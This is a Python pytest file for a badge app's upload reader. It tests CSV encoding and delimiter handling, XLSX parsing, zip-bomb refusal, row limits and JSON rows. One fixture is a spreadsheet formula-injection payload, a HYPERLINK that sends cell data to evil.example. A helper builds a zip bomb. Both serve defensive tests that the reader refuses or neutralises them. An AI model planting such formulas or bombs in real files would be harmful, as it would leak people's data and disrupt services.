"""Reading uploads: encodings, delimiters, XLSX (formulas as text, bombs refused), bad input."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from dataclasses import replace

import openpyxl
import pytest

from app.batches.input import BatchInputError, BatchLimits, RawRow, read_table, rows_from_json
from app.core.config import Settings

CHINESE = "email,name,term\r\nli.lei@example.cn,李雷,2026 春季\r\nhan.meimei@example.cn,韩梅梅,2026 春季\r\n"


def read(data: bytes, limits: BatchLimits, *, filename: str | None = "cohort.csv", encoding=None):
    return read_table(data, filename=filename, content_type=None, encoding=encoding, limits=limits)


def rows(data: bytes, limits: BatchLimits, **kwargs) -> list[RawRow]:
    return list(read(data, limits, **kwargs).rows)


def refused(data: bytes, limits: BatchLimits, **kwargs) -> BatchInputError:
    """The error reading ``data`` raises, whether at the header or while streaming the rows."""
    with pytest.raises(BatchInputError) as caught:
        rows(data, limits, **kwargs)
    return caught.value


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (CHINESE.encode("utf-8"), "utf-8"),
        (b"\xef\xbb\xbf" + CHINESE.encode("utf-8"), "utf-8"),
        (CHINESE.encode("gb18030"), "gb18030"),
    ],
    ids=["utf-8", "utf-8-bom", "gb18030"],
)
def test_csv_encodings_are_detected(data, encoding, limits):
    table = read(data, limits)
    assert table.header == ["email", "name", "term"]
    assert table.encoding == encoding
    found = list(table.rows)
    assert [(r.number, r.values["name"], r.values["term"]) for r in found] == [
        (2, "李雷", "2026 春季"),
        (3, "韩梅梅", "2026 春季"),
    ]


def test_encoding_override_wins_and_a_wrong_one_is_named(limits):
    data = "email,name\r\nwang@example.cn,王芳\r\n".encode("gbk")
    assert rows(data, limits, encoding="gbk")[0].values["name"] == "王芳"
    # Latin-1 decodes anything: the override is obeyed even when detection would differ.
    assert rows(data, limits, encoding="latin-1")[0].values["name"] != "王芳"
    error = refused(data, limits, encoding="utf-8")
    assert (error.status, error.field) == (415, "encoding")
    assert "utf-8" in error.message
    assert "Unknown encoding" in refused(data, limits, encoding="klingon").message


def test_undecodable_text_names_the_encodings_tried(limits):
    error = refused(b"email,name\r\na@example.org,\x81\x20\xff\r\n", limits)
    assert error.status == 415
    assert "UTF-8" in error.message
    assert "GB18030" in error.message


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolon_and_tab_are_sniffed(delimiter, limits):
    data = f"email{delimiter}name\r\nada@example.org{delimiter}Ada, Countess\r\n".encode()
    assert rows(data, limits)[0].values == {"email": "ada@example.org", "name": "Ada, Countess"}


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        bytes(range(256)) * 64,
        b"email,name\r\nada@example.org,A\x00da\r\n",
    ],
    ids=["png", "random", "nul"],
)
def test_binary_files_are_refused(data, limits):
    error = refused(data, limits)
    assert error.status == 415
    assert "not a CSV or XLSX" in error.message


def test_legacy_xls_is_refused_with_the_fix(limits):
    error = refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, limits, filename="a.xls")
    assert error.status == 415
    assert ".xlsx" in error.message


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"\r\n\r\n  \r\n"])
def test_empty_file(data, limits):
    error = refused(data, limits)
    assert error.status == 422
    assert "empty" in error.message


@pytest.mark.parametrize(
    ("data", "filename"),
    [(b"email,name\r\n\r\n,\r\n", "c.csv"), (None, "c.xlsx")],
    ids=["csv", "xlsx"],
)
def test_a_header_without_rows(data, filename, limits):
    data = data or workbook_bytes([["email", "name"], [None, " "]])
    with pytest.raises(BatchInputError) as caught:
        read(data, limits, filename=filename)
    assert (caught.value.status, caught.value.row) == (422, 2)
    assert "no rows" in caught.value.message


def test_missing_header_is_named(limits):
    error = refused(b"ada@example.org,Ada\r\ngrace@example.org,Grace\r\n", limits)
    assert (error.status, error.row) == (422, 1)
    assert "header" in error.message


def test_duplicate_header_is_named(limits):
    error = refused(b"email,name,Email\r\na@example.org,A,b@example.org\r\n", limits)
    assert (error.row, error.column) == (1, "Email")


def test_blank_rows_are_skipped_but_keep_the_numbering(limits):
    found = rows(b"email\r\na@example.org\r\n\r\n , \r\nb@example.org\r\n", limits)
    assert [(r.number, r.values["email"]) for r in found] == [
        (2, "a@example.org"),
        (5, "b@example.org"),
    ]


def test_cells_past_the_header_are_kept_by_position(limits):
    found = rows(b"email,name\r\na@example.org,A,extra\r\n", limits)
    assert found[0].values["(column 3)"] == "extra"


def test_too_large_is_413(limits):
    small = replace(limits, max_bytes=1_024)
    error = refused(b"email\r\n" + b"a@example.org\r\n" * 100, small)
    assert error.status == 413
    assert "BADGES_BATCH_MAX_BYTES" in error.message


def test_limits_come_from_settings():
    settings = Settings(batch_max_rows=50, batch_max_bytes=4_096)
    assert BatchLimits.from_settings(settings) == BatchLimits(max_rows=50, max_bytes=4_096)
    assert (Settings().batch_max_rows, Settings().batch_max_bytes) == (20_000, 20 * 1024 * 1024)


def test_100001_rows_are_refused_at_the_limit_without_holding_them(limits):
    data = b"email,name\r\n" + b"".join(
        b"learner%d@example.org,Learner %d\r\n" % (n, n) for n in range(100_001)
    )
    table = read(data, limits)
    seen = 0

    def consume() -> None:
        nonlocal seen
        for _ in table.rows:
            seen += 1

    tracemalloc.start()
    try:
        with pytest.raises(BatchInputError) as caught:
            consume()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert seen == limits.max_rows
    assert (caught.value.status, caught.value.row) == (413, limits.max_rows + 2)
    assert "BADGES_BATCH_MAX_ROWS" in caught.value.message
    # 20,000 rows held as dicts would take several MB; streaming keeps a few rows at a time.
    assert peak < 2 * 1024 * 1024


# --- XLSX ------------------------------------------------------------------------------------


def workbook_bytes(rows_: list[list[object]], *, extra_sheets: int = 0) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows_:
        sheet.append(row)
    for index in range(extra_sheets):
        book.create_sheet(f"Sheet {index + 2}")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_xlsx_cells_are_text_and_formulas_are_never_evaluated(limits):
    from datetime import datetime

    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Evidence")'
    data = workbook_bytes(
        [
            ["email", "name", "Score", "validFrom", "evidenceUrl"],
            ["ada@example.org", "阿达", 85, datetime(2026, 6, 30), formula],
            [None, None, None, None, None],
            ["grace@example.org", "Grace", 72.5, "2026-07-01", "https://example.org/e"],
        ]
    )
    table = read(data, limits, filename="cohort.xlsx")
    assert (table.format, table.header) == (
        "xlsx",
        ["email", "name", "Score", "validFrom", "evidenceUrl"],
    )
    found = list(table.rows)
    assert [r.number for r in found] == [2, 4]
    assert found[0].values == {
        "email": "ada@example.org",
        "name": "阿达",
        "Score": "85",
        "validFrom": "2026-06-30",
        "evidenceUrl": formula,
    }
    assert found[1].values["Score"] == "72.5"


def test_xlsx_is_detected_by_content_not_name(limits):
    data = workbook_bytes([["email"], ["ada@example.org"]])
    assert rows(data, limits, filename="cohort.csv")[0].values == {"email": "ada@example.org"}


def test_xlsx_too_many_rows_is_refused_while_streaming(limits):
    data = workbook_bytes([["email"], *([f"l{n}@example.org"] for n in range(30))])
    error = refused(data, replace(limits, max_rows=25), filename="c.xlsx")
    assert (error.status, error.row) == (413, 27)


def _bomb(member: str, size: int) -> bytes:
    """A minimal XLSX-looking zip with ``member`` holding ``size`` repeated bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open(member, "w") as entry:
            chunk = b"A" * (1 << 20)
            for _ in range(size // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


def test_xlsx_bomb_is_refused_before_openpyxl_parses(limits, monkeypatch):
    def must_not_parse(*args, **kwargs):
        raise AssertionError("openpyxl was asked to parse a bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", must_not_parse)
    data = _bomb("xl/sharedStrings.xml", 100 * 1024 * 1024)
    assert len(data) < 1024 * 1024
    error = refused(data, limits, filename="bomb.xlsx")
    assert error.status == 413
    assert "xl/sharedStrings.xml" in error.message
    assert "zip bomb" in error.message


def test_xlsx_shared_strings_and_total_size_limits(limits):
    data = workbook_bytes([["email", "name"], ["ada@example.org", "Ada"]])
    with_strings = io.BytesIO(data)
    with zipfile.ZipFile(with_strings, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", "<sst>" + "<si><t>x</t></si>" * 100 + "</sst>")
    error = refused(with_strings.getvalue(), replace(limits, max_shared_strings_bytes=1_000))
    assert error.status == 413
    assert "shared strings" in error.message
    error = refused(data, replace(limits, max_uncompressed_bytes=1_000), filename="c.xlsx")
    assert "unpacks to" in error.message
    error = refused(data, replace(limits, max_zip_entries=3), filename="c.xlsx")
    assert "parts" in error.message


def test_xlsx_with_too_many_sheets(limits):
    data = workbook_bytes([["email"], ["ada@example.org"]], extra_sheets=40)
    error = refused(data, limits, filename="c.xlsx")
    assert error.status == 422
    assert "41 sheets" in error.message


def test_a_zip_that_is_not_a_workbook(limits):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<document/>")
    error = refused(buffer.getvalue(), limits, filename="c.xlsx")
    assert error.status == 415
    assert "not an XLSX workbook" in error.message


def test_xlsx_named_file_that_is_text(limits):
    error = refused(b"email\r\nada@example.org\r\n", limits, filename="c.xlsx")
    assert error.status == 415


def test_xlsx_missing_header(limits):
    data = workbook_bytes([[None], ["ada@example.org"]])
    error = refused(data, limits, filename="c.xlsx")
    assert (error.status, error.row) == (422, 1)


# --- JSON rows -------------------------------------------------------------------------------


def test_json_rows(limits):
    table = rows_from_json(
        [{"email": "ada@example.org", "Score": 85, "term": None}, {"did": "did:web:x.example"}],
        limits,
    )
    assert (table.format, table.header, table.header_row) == (
        "json",
        ["email", "Score", "term", "did"],
        None,
    )
    found = list(table.rows)
    assert found[0] == RawRow(1, {"email": "ada@example.org", "Score": "85", "term": ""})
    assert found[1].number == 2


def test_json_rows_refusals(limits):
    with pytest.raises(BatchInputError) as caught:
        rows_from_json([{"email": "a@example.org"}] * 3, replace(limits, max_rows=2))
    assert caught.value.status == 413
    with pytest.raises(BatchInputError) as caught:
        list(rows_from_json([{"email": "a@example.org"}, {"email": {"x": 1}}], limits).rows)
    assert (caught.value.row, caught.value.column) == (2, "email")
    with pytest.raises(BatchInputError):
        rows_from_json([], limits)


def test_batch_input_error_renders_as_a_problem():
    error = BatchInputError("Row 3 is bad.", status=413, row=3, column="email")
    body = error.to_problem()
    assert (body["status"], body["title"]) == (413, "Content too large")
    assert body["errors"] == [{"message": "Row 3 is bad.", "row": 3, "column": "email"}]
